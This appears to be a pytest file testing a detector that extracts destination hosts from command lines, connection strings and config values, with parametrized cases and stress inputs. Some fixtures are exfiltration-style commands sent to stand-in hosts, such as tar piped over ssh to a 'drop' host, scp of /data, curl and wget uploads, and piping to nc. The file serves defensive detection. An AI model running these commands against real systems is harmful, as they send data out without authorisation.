"""Hosts that texts tell programs to talk to, in every spelling."""

from __future__ import annotations

import time

import pytest

from falaj.policies.reading.program_hosts import far_ends, is_link, without_scheme


@pytest.mark.parametrize(
    ("given", "hosts"),
    [
        (
            "kafka.example.com:9092,k2.example.com:9092",
            ["//kafka.example.com", "//k2.example.com"],
        ),
        ("--peer=8.8.4.4:443", ["//8.8.4.4"]),
        ("[2001:db8::1]:443", ["//[2001:db8::1]"]),
        ("0x08080808:443", ["//0x08080808"]),
        ("git@git.example.com:team/x", ["//git.example.com"]),
        ("Server=tcp:in.example.com,1433;Database=a", ["//in.example.com"]),
        ("jdbc:oracle:thin:@in.example.com:1521:a", ["//in.example.com"]),
        ("--db-host=in.example.com --listen-host=own.example.com", ["//in.example.com"]),
        ("python -c 'host=os.environ[1]; endpoint = urllib.parse.urlsplit(x)'", []),
        ("import os\nserver = module.name\n", []),
        ("--email-address first.last@bank.ae emailAddress=first.last@bank.ae", []),
        ("--proxy first.last@drop.example.com", ["//drop.example.com"]),
        ("--proxy=me:word@drop.example.com", ["//drop.example.com"]),
        ("no_proxy=a.example.com,b.example.com --no-proxy c.example.com", []),
        ("Data Source=app.db; server=log4j2.xml; --main com.example.Main --version 1.2.3.4", []),
        ("handlers.main:app 12.30:45 python:3.12 team@example.com", []),
    ],
)
def test_hosts_without_a_scheme(given: str, hosts: list[str]) -> None:
    assert list(without_scheme(given)) == hosts


@pytest.mark.parametrize(
    ("given", "hosts"),
    [
        ("*.* @@in.example.com:514\nauth.info\t@in.example.com\n", ["in.example.com"]),
        ("import os.path\n\n@app.route('/x')\ndef f():\n    return flask.x\n@app.get('/y')\n", []),
        ("RUN sudo apt-get install -y nc lib.amd64\nsudo yum install telnet glibc.i686", []),
        ("tar c . | ssh ops@drop.example.com tar x", ["drop.example.com"]),
        ("scp -r /data ops@8.8.4.4:/in", ["8.8.4.4"]),
        ("curl -T f https://in.example.com/x", ["https://in.example.com/x"]),
        ("curl -fsSL https://packages.example.com/key -o key", []),
        ("wget --post-file=f https://in.example.com", ["https://in.example.com"]),
        ("echo team@example.com", []),
        ("x | /usr/bin/nc -w3 -q 0 in.example.com 443", ["in.example.com"]),
        ("sudo -u x ssh -o A=b -i k.example.com.pem in.example.com", ["in.example.com"]),
        ("psql -hin.example.com -p 5432; redis-cli -h 8.8.4.4", ["in.example.com", "8.8.4.4"]),
        ("kcat -b a.example.com:9092,b.example.com:9092", ["a.example.com", "b.example.com"]),
        ("perl -e 'x' # nc in.example.com 443", []),
        ("apt-get install ssh example.com", []),
        ("docker pull in.example.com/a:1; git fetch https://in.example.com/a.git", []),
        ("scp a.tar.gz b.example.yaml:/x", []),
    ],
)
def test_far_ends(given: str, hosts: list[str]) -> None:
    assert list(far_ends(given)) == hosts


def test_a_page_is_named_by_a_whole_word() -> None:
    assert is_link("DOCS_URL", "https://x.example.com")
    assert is_link("APP_CORS_ALLOWED_ORIGINS", "https://a.example.com,https://b.example.com")
    assert not is_link("SCHEMA_REGISTRY_URL", "https://x.example.com")
    assert not is_link("DOCS_URL", "postgresql://u@x.example.com/d")
    assert not is_link("DOCS_URL", "https://user@x.example.com")


@pytest.mark.parametrize(
    "given",
    [
        "curl " * 50_000 + "://",
        "ssh a" * 50_000 + "@",
        "a." * 50_000,
        "nc -w a.b " * 20_000,
        "psql -h " + "a.b " * 50_000,
        "host=" * 50_000,
        "/dev/tcp/" + "a." * 50_000,
        "connect(" * 50_000,
        "a-host " * 50_000,
        "--resolve a:1:" * 20_000,
    ],
)
def test_no_text_takes_long(given: str) -> None:
    begun = time.process_time()
    list(far_ends(given))
    list(without_scheme(given + ":@"))
    assert time.process_time() - begun < 5
